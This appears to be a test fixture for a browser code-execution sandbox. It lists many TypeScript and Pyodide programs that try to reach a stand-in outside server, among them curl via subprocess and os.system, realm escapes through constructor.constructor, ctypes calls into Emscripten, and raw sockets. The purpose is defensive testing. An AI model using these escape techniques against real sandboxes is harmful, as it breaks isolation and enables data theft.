// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders belong to the programs.
/**
 * Ways by which a program might leave the laboratory. Each is the text of a program; ZIEL is a listening server elsewhere, HEIM
 * an address of the site's own. None may cause a request; whether the program fails or not is its own affair.
 */
export type WaysOut = Readonly<Record<string, string>>;

const urls = 'const ZIEL = process.env.ZIEL, HEIM = process.env.HEIM;\n';
/** Tries each statement by itself, so that one that throws does not hide the next. */
const each = (...statements: readonly string[]): string =>
  urls + statements.map((s) => `try { ${s} } catch (e) { console.log(String(e)); }`).join('\n');

export const typescriptWays: WaysOut = {
  'fetch elsewhere': each('await fetch(ZIEL);'),
  'fetch at home': each('await fetch(HEIM);', "await fetch('/wartezeit/verraten');"),
  'fetch with keepalive': each("await fetch(ZIEL, { keepalive: true, mode: 'no-cors' });"),
  'Request object': each('await fetch(new Request(ZIEL));', 'await new Request(ZIEL).clone().text();'),
  'synchronous XMLHttpRequest': each("const x = new XMLHttpRequest(); x.open('GET', ZIEL, false); x.send();"),
  'XMLHttpRequest at home': each("const x = new XMLHttpRequest(); x.open('GET', HEIM, false); x.send();"),
  'prototype of XMLHttpRequest': each(
    'const P = Object.getPrototypeOf(XMLHttpRequest.prototype); const x = new P.constructor(); x.open?.("GET", ZIEL); x.send?.();',
  ),
  WebSocket: each("new WebSocket(ZIEL.replace('http', 'ws'));", "new WebSocketStream(ZIEL.replace('http', 'ws'));"),
  EventSource: each('new EventSource(ZIEL);', 'new EventSource(HEIM);'),
  WebTransport: each("new WebTransport(ZIEL.replace('http:', 'https:'));"),
  RTCPeerConnection: each("new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] });"),
  'Worker at home': each('new Worker(HEIM);', "new Worker(HEIM, { type: 'module' });"),
  'Worker from a blob': each(
    "new Worker(URL.createObjectURL(new Blob([`fetch('${ZIEL}')`], { type: 'text/javascript' })));",
  ),
  'Worker from data': each('new Worker(`data:text/javascript,fetch("${ZIEL}")`);'),
  SharedWorker: each('new SharedWorker(HEIM);'),
  'service worker': each('await navigator.serviceWorker.register(HEIM);'),
  importScripts: each('importScripts(ZIEL);', 'importScripts(HEIM);'),
  'import elsewhere': each('await import(ZIEL);'),
  'import at home': each(
    'await import(HEIM);',
    "await import('/wartezeit/verraten.js');",
    "await import('./verraten.js');",
  ),
  'import without scheme': each("await import(ZIEL.replace('http:', ''));"),
  'import as JSON': each("await import(ZIEL, { with: { type: 'json' } });"),
  'import of data': each('await import(`data:text/javascript,fetch("${ZIEL}")`);'),
  'import of a blob': each(
    "await import(URL.createObjectURL(new Blob([`fetch('${ZIEL}')`], { type: 'text/javascript' })));",
  ),
  'static import': "import 'http://127.0.0.1:1/verraten.js';\nconsole.log('da');\n",
  'static export': "export * from 'http://127.0.0.1:1/verraten.js';\nconsole.log('da');\n",
  'import through eval': each("await eval('import(ZIEL)');", "await (0, eval)(`import('${ZIEL}')`);"),
  'import through Function': each(
    "await new Function('u', 'return import(u)')(ZIEL);",
    "new Function('u', 'return import(u)')(HEIM);",
  ),
  'import through AsyncFunction': each("await (async () => {}).constructor('u', 'return import(u)')(ZIEL);"),
  'import through GeneratorFunction': each("(function* () {}).constructor('u', 'yield import(u)')(ZIEL).next();"),
  'import through a timer’s text': each('setTimeout(`import("${ZIEL}")`, 0);', 'setInterval(`fetch("${ZIEL}")`, 1);'),
  'fetch through Function': each(
    "await new Function('return this')().fetch(ZIEL);",
    "await new Function('return fetch')()(ZIEL);",
  ),
  'fetch through eval': each("await (0, eval)('fetch')(ZIEL);", "await (0, eval)('self').fetch(ZIEL);"),
  'fetch on the prototypes of the global': each(
    "for (let o = globalThis; o; o = Object.getPrototypeOf(o)) for (const k of Reflect.ownKeys(o)) if (String(k).toLowerCase().includes('fetch')) { try { await o[k](ZIEL); } catch {} }",
  ),
  'deleting the replacements': each(
    'delete globalThis.fetch; await fetch(ZIEL);',
    'delete globalThis.XMLHttpRequest; new XMLHttpRequest();',
    'delete globalThis.Worker; new Worker(HEIM);',
  ),
  'walking everything reachable': each(
    `const seen = new Set(), queue = [globalThis];
     while (queue.length && seen.size < 20_000) {
       const o = queue.pop();
       if (o === null || (typeof o !== 'object' && typeof o !== 'function') || seen.has(o)) continue;
       seen.add(o);
       for (const k of Reflect.ownKeys(o)) {
         const d = Reflect.getOwnPropertyDescriptor(o, k);
         for (const v of [d?.value, d?.get, d?.set]) {
           if (typeof v === 'function' && /^(fetch|send|sendBeacon|open|importScripts|Worker|WebSocket|EventSource)$/.test(v.name) && /native code/.test(Function.prototype.toString.call(v))) {
             console.log('native', v.name);
             try { Reflect.apply(v, globalThis, [ZIEL]); } catch {}
             try { Reflect.construct(v, [HEIM]); } catch {}
           }
           queue.push(v);
         }
       }
       queue.push(Object.getPrototypeOf(o));
     }`,
  ),
  sendBeacon: each('navigator.sendBeacon(ZIEL);', 'navigator.sendBeacon(HEIM);'),
  'later fetch': each('fetchLater(ZIEL);'),
  'font face': each('await new FontFace("x", `url(${ZIEL})`).load();'),
  'image decoding': each(
    'await createImageBitmap(await (await fetch(ZIEL)).blob());',
    'new ImageDecoder({ data: ZIEL, type: "image/png" });',
  ),
  'streaming WebAssembly': each(
    'await WebAssembly.compileStreaming(fetch(ZIEL));',
    'await WebAssembly.instantiateStreaming(new Response(ZIEL));',
  ),
  caches: each("await (await caches.open('x')).add(HEIM);"),
  indexedDB: each("indexedDB.open('x');"),
  'origin private files': each('await navigator.storage.getDirectory();'),
  cookies: each("await cookieStore.set('x', 'y');"),
  BroadcastChannel: each("new BroadcastChannel('x').postMessage('hallo');"),
  'message to the page': each("postMessage({ kind: 'ended', outcome: { kind: 'completed', exitCode: 0 } });"),
  'closing the worker': each('close();', 'self.close();'),
  'Node’s modules': each(
    "await import('node:http');",
    "await import('child_process');",
    "await import('node:fs');",
    "process.getBuiltinModule('node:http').get(ZIEL);",
    "process.binding('tcp_wrap');",
    "require('http').get(ZIEL);",
  ),
  'constructors of natives': each(
    "const F = Object.getPrototypeOf(async () => {}).constructor; await F('u', 'await fetch(u)')(ZIEL);",
    "const R = Reflect.construct(Function, ['u', 'return import(u)']); await R(ZIEL);",
  ),
  'errors as a way to the realm': each(
    "try { null.x } catch (e) { e.constructor.constructor('return fetch')()(ZIEL); }",
  ),
  ShadowRealm: each("new ShadowRealm().evaluate('globalThis.fetch');"),
};

const head = 'import os\nZIEL, HEIM = os.environ["ZIEL"], os.environ["HEIM"]\n';
const tried = (...lines: readonly string[]): string =>
  head +
  lines
    .map((line) => {
      const body = line.split('\n').map((part) => `    ${part}`);
      return `try:\n${body.join('\n')}\nexcept BaseException as fehler:\n    print(type(fehler).__name__, fehler)`;
    })
    .join('\n') +
  '\n';

export const pythonWays: WaysOut = {
  'import js': tried('import js\njs.fetch(ZIEL)'),
  'import pyodide_js': tried('import pyodide_js\npyodide_js.runPython("1")\npyodide_js.globals'),
  run_js: tried('from pyodide.code import run_js\nrun_js(f"fetch(\'{ZIEL}\')")'),
  'pyodide.http': tried(
    'from pyodide.http import open_url\nopen_url(ZIEL)',
    'from pyodide.http import pyfetch\npyfetch(ZIEL).send(None)',
  ),
  _pyodide_core: tried('import _pyodide_core\nprint(dir(_pyodide_core))', 'import _pyodide._core_docs\n'),
  'pyodide.ffi': tried(
    'from pyodide.ffi import JsProxy, create_proxy\ncreate_proxy(print)',
    'from pyodide.ffi.wrappers import set_timeout\nset_timeout(print, 1)',
  ),
  importlib: tried('import importlib\nimportlib.import_module("js").fetch(ZIEL)', '__import__("js").fetch(ZIEL)'),
  finders: tried(
    'import sys\nfor finder in sys.meta_path:\n    spec = getattr(finder, "find_spec", lambda *a: None)("js", None)\n    print(finder, spec)\n    if spec: spec.loader.load_module("js").fetch(ZIEL)',
  ),
  'import hook of Pyodide': tried(
    'from _pyodide import _importhook\nprint(_importhook.jsfinder.jsproxies)\n_importhook.jsfinder.jsproxies["js"].fetch(ZIEL)',
  ),
  'modules that are loaded': tried(
    'import sys\nfor name, module in list(sys.modules.items()):\n    for key, value in list(vars(module).items()) if module else []:\n        if type(value).__name__ == "JsProxy":\n            print(name, key)\n            value.constructor.constructor("u", "return fetch(u)")(ZIEL)',
  ),
  'objects in memory': tried(
    'import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == "JsProxy":\n        print("JsProxy", o)\n        o.constructor.constructor("u", "return import(u)")(ZIEL)\n        o.constructor.constructor("u", "return fetch(u)")(ZIEL)',
  ),
  'subclasses of object': tried(
    'for c in object.__subclasses__():\n    if "Js" in c.__name__:\n        print(c)\n        c.new(ZIEL)',
  ),
  'the seams themselves': tried(
    'import sys\nfor name in [n for n in sys.modules if n.startswith("_lab")]:\n    module = sys.modules[name]\n    for key in dir(module):\n        value = getattr(module, key)\n        for inner in [value, *(getattr(value, k, None) for k in dir(value)[:50])]:\n            if hasattr(inner, "constructor"):\n                print(name, key)\n                inner.constructor.constructor("u", "return fetch(u)")(ZIEL)',
  ),
  'ctypes run_script': tried(
    'import ctypes\nctypes.CDLL(None).emscripten_run_script(f"fetch(\'{ZIEL}\')".encode())',
    'import ctypes\nctypes.pythonapi.emscripten_run_script(f"fetch(\'{ZIEL}\')".encode())',
    'import ctypes\nprint(ctypes.CDLL(None).emscripten_fetch)',
    'import ctypes\nlib = ctypes.CDLL(None)\nlib.system(b"true")',
  ),
  'ctypes sockets': tried('import ctypes\nlib = ctypes.CDLL(None)\nfd = lib.socket(2, 1, 0)\nprint(fd)'),
  'ctypes imports': tried(
    'import ctypes\nctypes.pythonapi.PyImport_ImportModule.restype = ctypes.py_object\nctypes.pythonapi.PyImport_ImportModule(b"js").fetch(ZIEL)',
  ),
  urllib: tried(
    'import urllib.request\nurllib.request.urlopen(ZIEL)',
    'import urllib.request\nurllib.request.urlopen(HEIM)',
  ),
  'http.client': tried(
    'import http.client\nhttp.client.HTTPConnection("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])).request("GET", "/verraten")',
  ),
  requests: tried('import requests\nrequests.get(ZIEL)', 'import requests\nrequests.get("https://example.com/")'),
  httpx: tried('import httpx\nhttpx.get(ZIEL)'),
  aiohttp: tried(
    'import aiohttp, asyncio\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        await s.get(ZIEL)\nasyncio.run(main())',
  ),
  'socket by address': tried(
    'import socket\nsocket.create_connection(("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])))',
  ),
  datagrams: tried(
    'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b"x", ("127.0.0.1", 53))',
  ),
  _socket: tried(
    'import _socket\ns = _socket.socket(2, 1, 0)\ns.connect(("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])))',
  ),
  names: tried(
    'import socket\nprint(socket.gethostbyname("daten.example.com"))',
    'import socket\nprint(socket.getaddrinfo("abc.127.0.0.1.nip.io", 80))',
  ),
  'asyncio streams': tried(
    'import asyncio\nasyncio.run(asyncio.open_connection("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])))',
  ),
  'Pyodide’s event loop': tried('import pyodide.webloop\nloop = pyodide.webloop.WebLoop()\nloop.call_later(0, print)'),
  subprocess: tried(
    'import subprocess\nsubprocess.run(["curl", ZIEL])',
    'import os\nos.system("curl " + ZIEL)',
    'import os\nos.fork()',
  ),
  multiprocessing: tried('import multiprocessing\nmultiprocessing.Process(target=print).start()'),
  webbrowser: tried('import webbrowser\nwebbrowser.open(ZIEL)'),
  micropip: tried('import micropip\nmicropip.install(ZIEL)', 'import pyodide_js\npyodide_js.loadPackage(ZIEL)'),
  'mail and files': tried(
    'import smtplib\nsmtplib.SMTP("127.0.0.1", 25)',
    'import ftplib\nftplib.FTP("127.0.0.1")',
    'print(open("/proc/net/tcp").read())',
  ),
  'file system of the browser': tried(
    'import pyodide_js\npyodide_js.FS.filesystems.IDBFS',
    'import os\nos.listdir("/dev")',
  ),
  'WebAssembly imports': tried(
    'import ctypes\nctypes.CDLL("http://127.0.0.1:1/verraten.so")',
    'import ctypes\nctypes.CDLL(HEIM)',
  ),
  'replacing the seams': tried(
    'import importlib, sys\nfor n in [n for n in sys.modules if n == "socket" or n.startswith("_lab")]: del sys.modules[n]\nimport socket\nsocket.create_connection(("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])))',
    'import importlib, socket\nimportlib.reload(socket)\nsocket.create_connection(("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])))',
  ),
  'frames above the program': tried(
    'import sys\nframe = sys._getframe()\nwhile frame:\n    for key, value in [*frame.f_locals.items(), *frame.f_globals.items()]:\n        if type(value).__name__ == "JsProxy":\n            print(key)\n            value.constructor.constructor("u", "return fetch(u)")(ZIEL)\n    frame = frame.f_back',
  ),
};
